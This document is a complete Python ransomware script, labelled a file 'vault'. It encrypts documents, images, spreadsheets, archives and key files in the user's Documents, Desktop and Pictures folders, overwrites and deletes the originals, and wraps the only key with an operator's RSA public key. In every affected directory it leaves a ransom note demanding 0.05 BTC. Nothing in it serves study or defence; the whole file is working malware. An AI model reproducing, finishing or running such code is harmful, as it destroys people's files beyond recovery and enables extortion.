#!/usr/bin/env python3
"""'Vault' the user's documents: every file is sealed in place.

Each file under the chosen roots is encrypted with a per-run AES-GCM key,
written next to the original as <name>.vlt, and the original is then
overwritten and removed. The run key is only kept wrapped with the
operator's RSA public key, inside the note left in each directory.
"""
import argparse
import base64
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""

TARGET_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".odt", ".csv", ".txt", ".sql", ".zip", ".psd", ".key", ".pem"}
NOTE_NAME = "RESTORE_YOUR_FILES.txt"


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        pub = serialization.load_pem_public_key(OPERATOR_PUB)
        wrapped = pub.encrypt(self.key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
        self.wrapped_b64 = base64.b64encode(wrapped).decode()

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = path.with_name(path.name + ".vlt")
        sealed.write_bytes(nonce + self.aead.encrypt(nonce, data, None))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget(self):
        self.key = None
        self.aead = None


def leave_note(directory, wrapped):
    (directory / NOTE_NAME).write_text(
        "Your files were sealed. To get them back, send this ID to "
        "restore@vaultdesk.cc with 0.05 BTC to bc1q8vaultdeskxxxx:\n\n" + wrapped + "\n")


def walk(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            yield Path(dirpath), [Path(dirpath) / f for f in filenames
                                  if Path(f).suffix.lower() in TARGET_EXT]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=[str(Path.home() / d) for d in ("Documents", "Desktop", "Pictures")])
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    sealer = Sealer()
    count = 0
    for directory, files in walk(args.roots):
        touched = False
        for f in files:
            try:
                sealer.seal(f)
                count += 1
                touched = True
            except OSError as exc:
                log.debug("skip %s: %s", f, exc)
        if touched:
            leave_note(directory, sealer.wrapped_b64)
    sealer.forget()
    log.warning("sealed %d files", count)


if __name__ == "__main__":
    main()
